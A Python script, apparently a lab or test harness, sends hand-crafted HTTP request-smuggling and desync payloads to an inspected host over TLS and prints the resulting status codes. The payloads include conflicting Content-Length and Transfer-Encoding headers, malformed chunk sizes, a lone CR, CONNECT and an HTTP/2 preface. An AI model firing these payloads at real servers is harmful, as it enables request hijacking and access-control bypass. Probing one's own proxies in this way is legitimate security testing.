#!/usr/bin/env python3
"""Requests to an inspected host that can be read in two ways, sent from a box (hostile/net_attack): "NAME STATUS..." a line."""
import re, socket, ssl, sys
def ask(text, *alpn, host="api.hub.test"):
    context = ssl.create_default_context()
    if alpn: context.set_alpn_protocols(alpn)
    s = context.wrap_socket(socket.create_connection((host, 443), 5), server_hostname=host)
    s.settimeout(3); s.sendall(text); out = b""
    try:
        while len(out) < 65536 and (got := s.recv(4096)): out += got
    except OSError: pass
    return s.selected_alpn_protocol(), re.findall(r"HTTP/1.1 (\d+) ", out.decode("latin1")) or ["closed"]
h = b"Host: api.hub.test\r\n"
inner = b"GET /inner HTTP/1.1\r\nHost: bad.hub.test\r\n\r\n"
for name, text in {
  "lengths": b"POST /outer HTTP/1.1\r\n" + h + b"Content-Length: 5\r\nContent-Length: %d\r\n\r\n" % len(inner) + inner,
  "length and chunks": b"POST /outer HTTP/1.1\r\n" + h + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
  "chunked twice": b"POST /outer HTTP/1.1\r\n" + h + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + inner,
  "tab before colon": b"POST /outer HTTP/1.1\r\n" + h + b"Transfer-Encoding\t: chunked\r\n\r\n0\r\n\r\n" + inner,
  "bad chunk size": b"POST /outer HTTP/1.1\r\n" + h + b"Transfer-Encoding: chunked\r\n\r\n0x5\r\nhello\r\n0\r\n\r\n" + inner,
  "huge chunk size": b"POST /outer HTTP/1.1\r\n" + h + b"Transfer-Encoding: chunked\r\n\r\n10000000000000005\r\nhello\r\n0\r\n\r\n" + inner,
  "negative length": b"POST /outer HTTP/1.1\r\n" + h + b"Content-Length: -1\r\n\r\n" + inner,
  "old version": b"GET /outer HTTP/1.0\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n" + h + b"\r\n0\r\n\r\n" + inner,
  "lone CR": b"GET /outer HTTP/1.1\r\n" + h + b"A: b\rHost: bad.hub.test\r\n\r\n",
  "space in target": b"GET /outer /inner HTTP/1.1\r\n" + h + b"\r\n",
  "preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9), "connect": b"CONNECT bad.hub.test:443 HTTP/1.1\r\nHost: bad.hub.test:443\r\n\r\n",
  "pipeline": b"GET /fine HTTP/1.1\r\n" + h + b"\r\n" + inner,
}.items(): print(name, *ask(text)[1])
print("alpn", ask(b"GET /h2 HTTP/1.1\r\nHost: api.hub.test\r\nConnection: close\r\n\r\n", "h2", "http/1.1")[0])
print("reused", *ask(b"GET / HTTP/1.1\r\nHost: bad.hub.test\r\n\r\n", "h2", "http/1.1")[1])
try: print("h2 alone", ask(b"", "h2"))
except ssl.SSLError: print("h2 alone refused")
